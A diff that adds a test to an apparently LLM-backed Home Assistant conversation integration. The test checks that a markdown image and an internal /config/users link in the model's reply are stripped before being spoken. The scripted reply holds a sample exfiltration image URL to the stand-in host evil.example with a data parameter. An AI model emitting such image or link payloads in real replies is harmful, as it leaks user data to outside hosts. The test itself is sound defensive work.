@@ -62,6 +62,12 @@ async def test_local_command_stands_in_the_history_under_the_name_that_is_offere
     assert "intent__HassTurnOn" in [tool["function"]["name"] for tool in body["tools"]]
 
 
+async def test_picture_and_link_into_home_assistant_are_not_shown(entry, say: SayFn, model_server: ModelServer) -> None:
+    model_server.script(words("![It](//evil.example/p.png?d=4711) is [here](https://a.b), [confirm](/config/users)."))
+
+    assert get_speech(await say("my name is Ada")) == "It is [here](https://a.b), confirm."
+
+
 async def test_sentence_trigger_comes_before_the_model(
     home: HomeAssistant, entry, say: SayFn, model_server: ModelServer
 ) -> None:
